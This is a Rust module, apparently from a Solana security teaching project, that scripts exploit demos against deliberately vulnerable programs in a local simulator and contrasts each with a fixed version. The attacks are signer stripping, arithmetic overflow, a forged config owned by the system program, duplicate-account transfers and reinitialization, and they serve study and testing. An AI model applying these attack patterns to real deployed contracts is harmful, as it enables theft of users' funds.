@@ -0,0 +1,683 @@
+//! Narrated, standalone runs of an exploit and its fix
+//!
+//! Each [`Demo`] scripts one program's attack the way its test suite does:
+//! `setup` deploys the program and plants the accounts the attacker needs,
+//! and the returned [`Stage`] builds the attack against an instruction. [`run`]
+//! plays the script against the vulnerable instruction, restores the state
+//! from before the attack, plays it again against the secure one, and prints
+//! every transaction with the balances before and after, the program logs,
+//! the call tree of any CPIs and the error it failed with:
+//!
+//! ```bash
+//! cargo xtask run-exploit signer-authorization
+//! ```
+//!
+//! [`play`] runs the same script without printing and returns an
+//! [`ExploitRun`] with each transaction's result, error code, balances and
+//! compute units, which `run-exploit --format json` prints for dashboards
+//! and grading scripts.
+//!
+//! Programs are named by their directory under `programs/`, as in the
+//! [`solsec_registry`] catalog.
+
+use std::io::{self, IsTerminal, Write};
+
+use serde::Serialize;
+use solsec_registry::Vulnerability;
+
+use crate::attacker;
+use crate::diff::StateDiff;
+use crate::errors::{instruction_error, AnchorError};
+use crate::idl::Idl;
+use crate::scenario::Scenario;
+use crate::sdk::{
+    self, Account, Instruction, InstructionError, Keypair, Pubkey, Signer, Transaction,
+    VersionedTransaction, LAMPORTS_PER_SOL,
+};
+use crate::trace::CallTree;
+
+// Every keypair in a demo derives from this seed, so runs print the same keys
+pub(crate) const SEED: u64 = 1;
+
+/// One program's exploit, scripted.
+pub struct Demo {
+    /// Directory under `programs/`
+    pub program: &'static str,
+    /// Name of the `.so` in `target/deploy/`
+    pub deploy: &'static str,
+    pub vulnerable: &'static str,
+    pub secure: &'static str,
+    pub setup: fn(&mut Scenario) -> Stage,
+}
+
+/// Builds the transactions of an attack against the named instruction
+pub type Script = Box<dyn Fn(&Scenario, &str) -> Vec<Action>>;
+
+/// What [`Demo::setup`] leaves behind for the attack.
+pub struct Stage {
+    /// Accounts whose balances are printed around each transaction
+    pub accounts: Vec<(&'static str, Pubkey)>,
+    /// Decodes program-owned accounts in the state diffs
+    pub idl: Option<Idl>,
+    pub script: Script,
+}
+
+/// A transaction and the sentence that introduces it.
+pub struct Action {
+    pub narration: String,
+    pub tx: Transaction,
+}
+
+impl Action {
+    pub fn new(
+        narration: impl Into<String>,
+        ix: Instruction,
+        signer: &Keypair,
+        svm: &Scenario,
+    ) -> Self {
+        Self {
+            narration: narration.into(),
+            tx: attacker::transaction(svm, &[ix], signer),
+        }
+    }
+}
+
+/// How the last transaction of each side ended.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+pub struct Outcome {
+    /// The attack landed against the vulnerable instruction
+    pub exploited: bool,
+    /// The attack failed against the secure instruction
+    pub blocked: bool,
+}
+
+/// ANSI styling, off when stdout isn't a terminal or `NO_COLOR` is set.
+#[derive(Debug, Clone, Copy)]
+pub struct Palette {
+    enabled: bool,
+}
+
+impl Palette {
+    pub fn new(enabled: bool) -> Self {
+        Self { enabled }
+    }
+
+    pub fn detect() -> Self {
+        let no_color = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
+        Self::new(!no_color && io::stdout().is_terminal())
+    }
+
+    fn paint(&self, code: &str, text: &str) -> String {
+        if self.enabled {
+            format!("\x1b[{}m{}\x1b[0m", code, text)
+        } else {
+            text.to_string()
+        }
+    }
+
+    pub fn bold(&self, text: &str) -> String {
+        self.paint("1", text)
+    }
+
+    pub fn dim(&self, text: &str) -> String {
+        self.paint("2", text)
+    }
+
+    pub fn red(&self, text: &str) -> String {
+        self.paint("31", text)
+    }
+
+    pub fn green(&self, text: &str) -> String {
+        self.paint("32", text)
+    }
+
+    pub fn yellow(&self, text: &str) -> String {
+        self.paint("33", text)
+    }
+}
+
+/// Every scripted demo.
+pub const DEMOS: &[Demo] = &[
+    Demo {
+        program: "signer-authorization",
+        deploy: "signer_authorization",
+        vulnerable: "vulnerable_withdraw",
+        secure: "secure_withdraw",
+        setup: signer_authorization,
+    },
+    Demo {
+        program: "arithmetic-overflow",
+        deploy: "arithmetic_overflow",
+        vulnerable: "vulnerable_swap",
+        secure: "secure_swap",
+        setup: arithmetic_overflow,
+    },
+    Demo {
+        program: "owner-check",
+        deploy: "owner_check",
+        vulnerable: "vulnerable_read_config",
+        secure: "secure_read_config",
+        setup: owner_check,
+    },
+    Demo {
+        program: "duplicate-accounts",
+        deploy: "duplicate_accounts",
+        vulnerable: "vulnerable_transfer",
+        secure: "secure_transfer",
+        setup: duplicate_accounts,
+    },
+    Demo {
+        program: "insecure-init",
+        deploy: "insecure_init",
+        vulnerable: "vulnerable_initialize",
+        secure: "secure_initialize",
+        setup: insecure_init,
+    },
+];
+
+/// The demo for a directory under `programs/`.
+pub fn find(program: &str) -> Option<&'static Demo> {
+    DEMOS.iter().find(|d| d.program == program)
+}
+
+impl Demo {
+    pub fn vulnerability(&self) -> &'static Vulnerability {
+        solsec_registry::find(self.program).expect("every demo has a registry entry")
+    }
+}
+
+/// A demo as it ran: what [`play`] returns and `run-exploit --format json`
+/// prints.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct ExploitRun {
+    pub program: &'static str,
+    pub title: &'static str,
+    pub class: &'static str,
+    pub severity: &'static str,
+    pub vulnerable: SideRun,
+    pub secure: SideRun,
+    pub outcome: Outcome,
+}
+
+/// The attack against one instruction.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct SideRun {
+    pub instruction: &'static str,
+    pub transactions: Vec<TxRun>,
+}
+
+/// One transaction of the attack.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct TxRun {
+    pub narration: String,
+    pub signature: String,
+    pub ok: bool,
+    /// `Debug` of the transaction error
+    pub error: Option<String>,
+    /// The program's custom error code, if it failed with one
+    pub error_code: Option<u32>,
+    /// The Anchor error variant the logs name, e.g. `ConstraintSigner`
+    pub anchor_error: Option<String>,
+    pub compute_units: u64,
+    /// The stage's accounts around the transaction
+    pub balances: Vec<Balance>,
+    pub logs: Vec<String>,
+    #[serde(skip)]
+    pub state: StateDiff,
+    /// The transaction's invocations, nested by CPI depth
+    #[serde(skip)]
+    pub calls: CallTree,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Balance {
+    pub label: &'static str,
+    pub address: String,
+    pub before: u64,
+    pub after: u64,
+    pub delta: i64,
+}
+
+/// Play `demo` against both instructions and return what happened.
+pub fn play(demo: &Demo) -> ExploitRun {
+    let mut svm = Scenario::new(&format!("demo/{}", demo.program), SEED);
+    svm.add_program(demo.deploy);
+    let stage = (demo.setup)(&mut svm);
+    let ready = svm.snapshot();
+
+    let mut side = |instruction: &'static str| {
+        svm.restore(ready);
+        let transactions = (stage.script)(&svm, instruction)
+            .into_iter()
+            .map(|action| send(&mut svm, &stage, action))
+            .collect();
+        SideRun {
+            instruction,
+            transactions,
+        }
+    };
+    let vulnerable = side(demo.vulnerable);
+    let secure = side(demo.secure);
+
+    let landed = |side: &SideRun| side.transactions.last().is_some_and(|tx| tx.ok);
+    let vuln = demo.vulnerability();
+    ExploitRun {
+        program: demo.program,
+        title: vuln.title,
+        class: vuln.class.name(),
+        severity: vuln.severity.name(),
+        outcome: Outcome {
+            exploited: landed(&vulnerable),
+            blocked: !landed(&secure),
+        },
+        vulnerable,
+        secure,
+    }
+}
+
+/// Play `demo` against both instructions, narrating to `out`.
+pub fn run(demo: &Demo, out: &mut impl Write, palette: Palette) -> io::Result<Outcome> {
+    let vuln = demo.vulnerability();
+    writeln!(
+        out,
+        "{} {}",
+        palette.bold(vuln.title),
+        palette.dim(&format!(
+            "({}, {} {})",
+            vuln.program,
+            vuln.severity.name(),
+            vuln.class.name()
+        ))
+    )?;
+    writeln!(out, "fix: {}", vuln.mitigation.summary)?;
+
+    let run = play(demo);
+    for side in [&run.vulnerable, &run.secure] {
+        writeln!(out)?;
+        writeln!(
+            out,
+            "{}",
+            palette.bold(&format!("== {} ==", side.instruction))
+        )?;
+        for tx in &side.transactions {
+            print(tx, out, palette)?;
+        }
+    }
+
+    let outcome = run.outcome;
+    writeln!(out)?;
+    let verdict = |ok: bool, yes: &str, no: &str| {
+        if ok {
+            palette.green(yes)
+        } else {
+            palette.red(no)
+        }
+    };
+    writeln!(
+        out,
+        "{}: {}",
+        demo.vulnerable,
+        verdict(outcome.exploited, "exploited", "attack did not land")
+    )?;
+    writeln!(
+        out,
+        "{}: {}",
+        demo.secure,
+        verdict(outcome.blocked, "blocked", "attack landed")
+    )?;
+    Ok(outcome)
+}
+
+/// Send one action and print it; true if it landed.
+pub(crate) fn narrate(
+    svm: &mut Scenario,
+    stage: &Stage,
+    action: Action,
+    out: &mut impl Write,
+    palette: Palette,
+) -> io::Result<bool> {
+    let tx = send(svm, stage, action);
+    print(&tx, out, palette)?;
+    Ok(tx.ok)
+}
+
+fn send(svm: &mut Scenario, stage: &Stage, action: Action) -> TxRun {
+    let before = balances(svm, stage);
+    let signature = action.tx.signatures[0].to_string();
+    let tx = VersionedTransaction::from(action.tx);
+    let (result, diff) = svm.diff(|svm| svm.send_transaction(tx.clone()));
+    let after = balances(svm, stage);
+    let mut calls = CallTree::from_litesvm(svm, &tx, &result);
+    if let Some(idl) = &stage.idl {
+        calls = calls.named(idl.program_id, &idl.name);
+    }
+
+    let meta = match &result {
+        Ok(meta) => meta,
+        Err(failed) => &failed.meta,
+    };
+    let failed = result.as_ref().err();
+    let anchor = failed.and_then(|_| AnchorError::from_logs(&meta.logs));
+    TxRun {
+        narration: action.narration,
+        signature,
+        ok: failed.is_none(),
+        error: failed.map(|failed| format!("{:?}", failed.err)),
+        error_code: failed.and_then(|failed| match instruction_error(failed) {
+            Some(InstructionError::Custom(code)) => Some(*code),
+            _ => None,
+        }),
+        anchor_error: anchor.map(|err| err.name),
+        compute_units: meta.compute_units_consumed,
+        balances: stage
+            .accounts
+            .iter()
+            .zip(before)
+            .zip(after)
+            .map(|(((label, address), before), after)| Balance {
+                label,
+                address: address.to_string(),
+                before,
+                after,
+                delta: after as i64 - before as i64,
+            })
+            .collect(),
+        logs: meta.logs.clone(),
+        state: match &stage.idl {
+            Some(idl) => diff.with_idl(idl),
+            None => diff,
+        },
+        calls,
+    }
+}
+
+fn print(tx: &TxRun, out: &mut impl Write, palette: Palette) -> io::Result<()> {
+    writeln!(out, "{} {}", palette.yellow(">"), tx.narration)?;
+    writeln!(out, "  logs:")?;
+    for log in &tx.logs {
+        writeln!(out, "    {}", palette.dim(log))?;
+    }
+    if tx.calls.max_depth() > 1 {
+        writeln!(out, "  calls:")?;
+        for line in tx.calls.to_string().lines() {
+            writeln!(out, "    {}", line)?;
+        }
+    }
+    match &tx.error {
+        None => writeln!(
+            out,
+            "  result: {} ({} CU)",
+            palette.green("ok"),
+            tx.compute_units
+        )?,
+        Some(error) => {
+            writeln!(
+                out,
+                "  result: {} {} ({} CU)",
+                palette.red("failed"),
+                error,
+                tx.compute_units
+            )?;
+            if let Some(err) = AnchorError::from_logs(&tx.logs) {
+                writeln!(
+                    out,
+                    "  error: {} ({}): {}",
+                    err.name, err.number, err.message
+                )?;
+            }
+        }
+    }
+
+    writeln!(out, "  balances:")?;
+    for balance in &tx.balances {
+        let change = match balance.delta {
+            0 => palette.dim("unchanged"),
+            d if d > 0 => palette.green(&format!("{:+}", d)),
+            d => palette.red(&format!("{:+}", d)),
+        };
+        writeln!(
+            out,
+            "    {:<12} {} -> {} ({})",
+            balance.label,
+            sol(balance.before),
+            sol(balance.after),
+            change
+        )?;
+    }
+    writeln!(out, "  state:")?;
+    for line in tx.state.to_string().lines() {
+        writeln!(out, "    {}", line)?;
+    }
+    Ok(())
+}
+
+fn balances(svm: &Scenario, stage: &Stage) -> Vec<u64> {
+    stage
+        .accounts
+        .iter()
+        .map(|(_, address)| svm.get_account(address).map_or(0, |a| a.lamports))
+        .collect()
+}
+
+fn sol(lamports: u64) -> String {
+    format!(
+        "{}.{:09} SOL",
+        lamports / LAMPORTS_PER_SOL,
+        lamports % LAMPORTS_PER_SOL
+    )
+}
+
+fn program_account(
+    svm: &mut Scenario,
+    address: Pubkey,
+    owner: Pubkey,
+    lamports: u64,
+    data: Vec<u8>,
+) {
+    svm.set_account(
+        address,
+        Account {
+            lamports,
+            data,
+            owner,
+            executable: false,
+            rent_epoch: 0,
+        },
+    )
+    .unwrap();
+}
+
+// The attacker withdraws from a vault naming the authority without its signature
+fn signer_authorization(svm: &mut Scenario) -> Stage {
+    let idl = Idl::load("signer_authorization");
+    let authority = svm.keypair("authority");
+    let attacker = svm.keypair("attacker");
+    svm.airdrop(&attacker.pubkey(), LAMPORTS_PER_SOL).unwrap();
+
+    // Vault: discriminator (8) + authority (32) + bump (1), holding 5 SOL
+    let (vault, bump) =
+        crate::common::find_pda(&[b"vault", authority.pubkey().as_ref()], &idl.program_id);
+    let mut data = idl.account_discriminator("Vault").to_vec();
+    data.extend_from_slice(authority.pubkey().as_ref());
+    data.push(bump);
+    program_account(svm, vault, idl.program_id, 5 * LAMPORTS_PER_SOL, data);
+
+    let script_idl = idl.clone();
+    Stage {
+        accounts: vec![("vault", vault), ("attacker", attacker.pubkey())],
+        idl: Some(idl),
+        script: Box::new(move |svm, instruction| {
+            let ix = script_idl
+                .ix(instruction)
+                .arg("amount", LAMPORTS_PER_SOL)
+                .account("vault", vault)
+                .account("authority", authority.pubkey())
+                .account("destination", attacker.pubkey())
+                .build();
+            let ix = attacker::strip_signer(ix, &authority.pubkey());
+            vec![Action::new(
+                "attacker withdraws 1 SOL, naming the vault's authority without its signature",
+                ix,
+                &attacker,
+                svm,
+            )]
+        }),
+    }
+}
+
+// A swap large enough to overflow `amount_in * reserve_b`
+fn arithmetic_overflow(svm: &mut Scenario) -> Stage {
+    let idl = Idl::load("arithmetic_overflow");
+    let user = svm.keypair("user");
+    svm.airdrop(&user.pubkey(), LAMPORTS_PER_SOL).unwrap();
+
+    // Pool: discriminator (8) + authority (32) + reserve_a (8) + reserve_b (8) + bump (1)
+    let (pool, bump) = crate::common::find_pda(&[b"pool", user.pubkey().as_ref()], &idl.program_id);
+    let mut data = idl.account_discriminator("Pool").to_vec();
+    data.extend_from_slice(user.pubkey().as_ref());
+    data.extend_from_slice(&(u64::MAX / 2).to_le_bytes());
+    data.extend_from_slice(&1_000u64.to_le_bytes());
+    data.push(bump);
+    program_account(svm, pool, idl.program_id, LAMPORTS_PER_SOL, data);
+
+    let script_idl = idl.clone();
+    Stage {
+        accounts: vec![("pool", pool), ("user", user.pubkey())],
+        idl: Some(idl),
+        script: Box::new(move |svm, instruction| {
+            let ix = script_idl
+                .ix(instruction)
+                .arg("amount_in", u64::MAX / 4)
+                .arg("min_out", 1u64)
+                .account("user", user.pubkey())
+                .account("pool", pool)
+                .build();
+            vec![Action::new(
+                "user swaps u64::MAX / 4 into a pool holding u64::MAX / 2 and 1000",
+                ix,
+                &user,
+                svm,
+            )]
+        }),
+    }
+}
+
+// A config forged under the system program, naming the attacker as admin
+fn owner_check(svm: &mut Scenario) -> Stage {
+    let idl = Idl::load("owner_check");
+    let attacker = svm.keypair("attacker");
+    svm.airdrop(&attacker.pubkey(), LAMPORTS_PER_SOL).unwrap();
+
+    let fake_config = svm.keypair("fake_config").pubkey();
+    program_account(
+        svm,
+        fake_config,
+        sdk::system_program::ID,
+        LAMPORTS_PER_SOL,
+        attacker.pubkey().to_bytes().to_vec(),
+    );
+
+    let script_idl = idl.clone();
+    Stage {
+        accounts: vec![("attacker", attacker.pubkey())],
+        idl: Some(idl),
+        script: Box::new(move |svm, instruction| {
+            let ix = script_idl
+                .ix(instruction)
+                .account("config", fake_config)
+                .account("caller", attacker.pubkey())
+                .build();
+            vec![Action::new(
+                "attacker passes a config the system program owns, naming themselves admin",
+                ix,
+                &attacker,
+                svm,
+            )]
+        }),
+    }
+}
+
+// A self-transfer whose credit is written after its debit
+fn duplicate_accounts(svm: &mut Scenario) -> Stage {
+    let idl = Idl::load("duplicate_accounts");
+    let user = svm.keypair("user");
+    svm.airdrop(&user.pubkey(), 10 * LAMPORTS_PER_SOL).unwrap();
+
+    let (balance, _) =
+        crate::common::find_pda(&[b"balance", user.pubkey().as_ref()], &idl.program_id);
+    let ix = idl
+        .ix("initialize")
+        .arg("initial_balance", 100u64)
+        .account("user", user.pubkey())
+        .account("user_account", balance)
+        .build();
+    let tx = attacker::transaction(svm, &[ix], &user);
+    svm.send_transaction(tx)
+        .expect("Balance initialization failed");
+
+    let script_idl = idl.clone();
+    Stage {
+        accounts: vec![("balance", balance), ("user", user.pubkey())],
+        idl: Some(idl),
+        script: Box::new(move |svm, instruction| {
+            let ix = script_idl
+                .ix(instruction)
+                .arg("amount", 50u64)
+                .account("authority", user.pubkey())
+                .account("from_account", balance)
+                .account("to_account", balance)
+                .build();
+            vec![Action::new(
+                "user transfers 50 from their balance of 100 to the same balance",
+                ix,
+                &user,
+                svm,
+            )]
+        }),
+    }
+}
+
+// The attacker calls initialize again after the admin did
+fn insecure_init(svm: &mut Scenario) -> Stage {
+    let idl = Idl::load("insecure_init");
+    let admin = svm.keypair("admin");
+    let attacker = svm.keypair("attacker");
+    svm.airdrop(&admin.pubkey(), 2 * LAMPORTS_PER_SOL).unwrap();
+    svm.airdrop(&attacker.pubkey(), 2 * LAMPORTS_PER_SOL)
+        .unwrap();
+
+    let (config, _) = crate::common::find_pda(&[b"config"], &idl.program_id);
+    let script_idl = idl.clone();
+    Stage {
+        accounts: vec![
+            ("config", config),
+            ("admin", admin.pubkey()),
+            ("attacker", attacker.pubkey()),
+        ],
+        idl: Some(idl),
+        script: Box::new(move |svm, instruction| {
+            let initialize = |signer: &Keypair| {
+                script_idl
+                    .ix(instruction)
+                    .arg("admin", signer.pubkey())
+                    .account("payer", signer.pubkey())
+                    .account("config", config)
+                    .build()
+            };
+            vec![
+                Action::new(
+                    "admin initializes the config",
+                    initialize(&admin),
+                    &admin,
+                    svm,
+                ),
+                Action::new(
+                    "attacker initializes it again, naming themselves admin",
+                    initialize(&attacker),
+                    &attacker,
+                    svm,
+                ),
+            ]
+        }),
+    }
+}